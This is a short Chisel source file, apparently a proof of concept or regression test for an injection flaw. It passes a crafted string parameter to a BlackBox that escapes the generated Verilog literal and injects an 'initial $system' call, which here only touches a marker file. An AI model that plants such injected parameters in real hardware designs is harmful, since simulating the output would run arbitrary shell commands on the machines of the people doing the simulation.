import chisel3._
import chisel3.experimental.StringParam

class Body extends BlackBox(Map("P" -> StringParam("a\")); initial $system(\"touch MARKER\"); \\"))) {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
}

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  val body = Module(new Body)
  body.io.in := io.in
  io.out := body.io.out
}
